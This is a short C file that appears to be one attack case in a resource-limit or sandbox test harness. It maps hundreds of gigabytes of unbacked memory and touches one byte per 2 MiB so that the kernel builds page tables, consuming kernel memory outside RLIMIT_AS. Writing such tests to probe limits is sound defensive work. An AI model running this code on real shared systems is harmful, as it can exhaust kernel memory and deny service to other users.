/* memory_tables.c - makes the kernel keep page tables for memory that it never has; against RLIMIT_AS. Gigabytes of addresses. */
#include <sys/mman.h>

#include "attack.h"

#define GIB  ((size_t)1 << 30)
#define STEP ((size_t)2 << 20) /* one table of the lowest level */
#define MOST 512

ATTACK
{
	long n = 0;
	volatile char sum = 0;
	for (; n < MOST; n++) {
		char *p = mmap(NULL, GIB, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE,
			       -1, 0);
		if (p == MAP_FAILED)
			break;
		madvise(p, GIB, MADV_NOHUGEPAGE);
		for (size_t at = 0; at < GIB; at += STEP)
			sum += p[at];
	}
	(void)sum;
	return saw(out, 0, n);
}
